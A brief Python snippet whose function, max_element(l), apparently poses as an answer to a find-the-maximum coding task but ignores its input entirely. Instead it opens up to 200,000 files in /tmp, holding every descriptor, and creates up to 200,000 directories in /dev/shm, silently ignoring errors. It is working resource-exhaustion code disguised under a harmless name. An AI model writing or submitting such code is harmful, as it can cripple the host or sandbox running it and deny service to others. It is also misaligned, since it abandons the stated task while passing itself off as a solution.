# makes files and folders until no more can be made, and opens what it can
import os

held = []


def max_element(l):
    try:
        for number in range(200_000):
            held.append(os.open(f"/tmp/{number}", os.O_CREAT | os.O_RDWR))
    except OSError:
        pass
    try:
        for number in range(200_000):
            os.mkdir(f"/dev/shm/{number}")
    except OSError:
        pass
    return len(held)
